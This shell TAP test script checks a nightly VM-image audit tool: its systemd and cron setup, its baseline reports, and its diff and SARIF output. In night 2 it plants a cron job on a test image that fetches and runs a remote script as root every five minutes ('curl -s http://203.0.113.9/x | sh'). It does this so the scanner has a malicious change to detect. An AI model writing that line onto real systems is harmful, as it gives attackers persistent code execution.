#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# TAP test of the scheduled audit in contrib/: the systemd units pass
# systemd-analyze verify (with ExecStart pointed at this tree's script,
# as installing it would, and --man=no: vmscan(1) is not installed here), the cron line has a schedule, a user and the
# script, and contrib/vmscan-nightly on a folder of two small ext4
# images (host data path, no appliance):
#   night 1, no baseline: a dated database, html and summary report per
#     image, each database's scan complete (sqlite3); exit 0 (nothing at
#     medium or above in the scans);
#   a person approves night 1 (vmscan baseline accept, as vmscan(1)
#     says); night 2, one image rebuilt with a planted cron job: its diff
#     names the cron file and only it among the files (against the two
#     trees' difference), the other image's diff is empty, the SARIF has
#     a "new" result, the scan marked the cron job's findings new and
#     only them, exit 1; approved.db is untouched;
#   night 3, the cron job accepted in accepted.txt (with a reason): exit
#     0, its findings suppressed.
# Needs root (vmscan reads the images it is given as any user, but the
# trees keep root's owners), mke2fs, sqlite3, python3.
set -u

. "$(dirname "$0")/../lib.sh"
LC_ALL=C
export LC_ALL
contrib=$top_srcdir/contrib

require_vmscan
require_root "the trees keep root's owners"
require_cmd mke2fs sqlite3 python3 sha256sum
setup_work
cd "$work" || bail_out "cannot enter $work"

plan 11

# The units, as installed (ExecStart at the script's installed path).
if command -v systemd-analyze > /dev/null 2>&1; then
  mkdir -p units
  sed "s|/usr/local/bin/vmscan-nightly|$contrib/vmscan-nightly|" \
    "$contrib/vmscan-nightly.service" > units/vmscan-nightly.service
  cp "$contrib/vmscan-nightly.timer" units/
  # --man=no: vmscan(1), their Documentation=, is installed by make
  # install, not here.
  systemd-analyze verify --man=no units/vmscan-nightly.service \
    units/vmscan-nightly.timer > verify.out 2>&1
  rc=$?
  # verify also reports on units of the host it pulls in; only ours count.
  bad=$(grep -c 'vmscan-nightly' verify.out)
  ok "$([ $rc -eq 0 ] && [ "$bad" -eq 0 ]; echo $?)" \
    "systemd-analyze verify: the service and the timer (exit $rc)"
  [ $rc -eq 0 ] && [ "$bad" -eq 0 ] || diag < verify.out
else
  skip "systemd-analyze not installed"
fi
line=$(grep -v '^#' "$contrib/vmscan-nightly.cron" | grep .)
set -f
# shellcheck disable=SC2086
set -- $line
set +f
ok "$([ $# -ge 8 ] && [ "$6" = root ] \
  && [ "$7" = /usr/local/bin/vmscan-nightly ]; echo $?)" \
  "the cron line: five time fields, the user root and the script"

# Two images, then one rebuilt.
mktree () {
  mkdir -p "$1/etc/cron.d" "$1/usr/bin" "$1/srv"
  printf 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n' \
    > "$1/etc/os-release"
  echo "$2" > "$1/etc/hostname"
  printf 'root:x:0:0:root:/root:/bin/bash\n' > "$1/etc/passwd"
  printf 'hello %s\n' "$2" > "$1/srv/readme.txt"
}
mkimg () {
  truncate -s 16M "$2" && mke2fs -q -F -t ext4 -d "$1" "$2"
}
mktree tree-a web01
mktree tree-b db01
mkdir images out
mkimg tree-a images/web01.raw && mkimg tree-b images/db01.raw \
  || bail_out "mke2fs failed"

VMSCAN_OPTS="--data-path host" VMSCAN_NIGHTLY_STAMP=night1 VMSCAN=$VMSCAN \
  "$contrib/vmscan-nightly" images out > night1.out 2> night1.err
rc=$?
files=0
for n in web01.raw db01.raw; do
  for f in night1.db night1.html night1.summary.json; do
    [ -s "out/$n/$f" ] && files=$((files + 1))
  done
done
st=$(sqlite3 out/web01.raw/night1.db "SELECT status FROM scans")$(sqlite3 \
  out/db01.raw/night1.db "SELECT status FROM scans")
is "$rc:$files:$st" "0:6:completecomplete" \
  "night 1: exit 0, a database, html and summary per image, both complete"
ok "$(grep -q 'no approved.db yet' night1.out; echo $?)" \
  "night 1: said that there is no baseline yet"

# Approved on purpose; night 2 with web01 rebuilt.
for n in web01.raw db01.raw; do
  "$VMSCAN" baseline accept "out/$n/night1.db" -o "out/$n/approved.db" \
    --reason "night 1 reviewed" 2> /dev/null \
    || bail_out "baseline accept of $n failed"
done
sum_approved=$(sha256sum out/*/approved.db)
printf '*/5 * * * * root curl -s http://203.0.113.9/x | sh\n' \
  > tree-a/etc/cron.d/sync
rm -f images/web01.raw
mkimg tree-a images/web01.raw || bail_out "mke2fs failed"
VMSCAN_OPTS="--data-path host" VMSCAN_NIGHTLY_STAMP=night2 VMSCAN=$VMSCAN \
  "$contrib/vmscan-nightly" images out > night2.out 2> night2.err
rc=$?
is "$rc" 1 "night 2: exit 1, web01 has a new finding at medium or above"
added=$(grep -c '^  added ' out/web01.raw/night2.diff.txt)
ok "$(grep -q '^  added      /etc/cron.d/sync ' out/web01.raw/night2.diff.txt \
  && [ "$added" -eq 1 ] \
  && ! grep -q '^  removed' out/web01.raw/night2.diff.txt; echo $?)" \
  "night 2: web01's diff adds /etc/cron.d/sync, the trees' one difference"
ok "$(! grep -q '^  [a-z]' out/db01.raw/night2.diff.txt \
  && grep -q 'db01.raw: nothing at medium or above new' night2.out; echo $?)" \
  "night 2: db01, unchanged, has an empty diff"
ok "$(python3 -c 'import json,sys
r = json.load(open(sys.argv[1]))["runs"][0]["results"]
sys.exit(0 if any(x["baselineState"] == "new" for x in r) else 1)' \
  out/web01.raw/night2.diff.sarif; echo $?)" \
  "night 2: web01's SARIF has a result whose baselineState is new"
is "$(sqlite3 out/web01.raw/night2.db "SELECT DISTINCT path FROM findings \
  WHERE baseline = 'new'"):$(sqlite3 out/db01.raw/night2.db "SELECT count (*) \
  FROM findings WHERE baseline = 'new'")" "/etc/cron.d/sync:0" \
  "night 2: the scans, against approved.db, found the cron job new and nothing else"

# Night 3: the cron job reviewed and accepted.
printf 'check=* path=/etc/cron.d/sync reason="the sync job, reviewed" expires=2999-01-01\n' \
  > out/web01.raw/accepted.txt
VMSCAN_OPTS="--data-path host" VMSCAN_NIGHTLY_STAMP=night3 VMSCAN=$VMSCAN \
  "$contrib/vmscan-nightly" images out > night3.out 2> night3.err
rc=$?
is "$rc:$(sqlite3 out/web01.raw/night3.db "SELECT count (*) FROM findings \
  WHERE baseline = 'new' AND suppression_id IS NULL")" "0:0" \
  "night 3: the cron job accepted in accepted.txt, exit 0"
is "$(sha256sum out/*/approved.db)" "$sum_approved" \
  "the baselines were not touched"
test_done
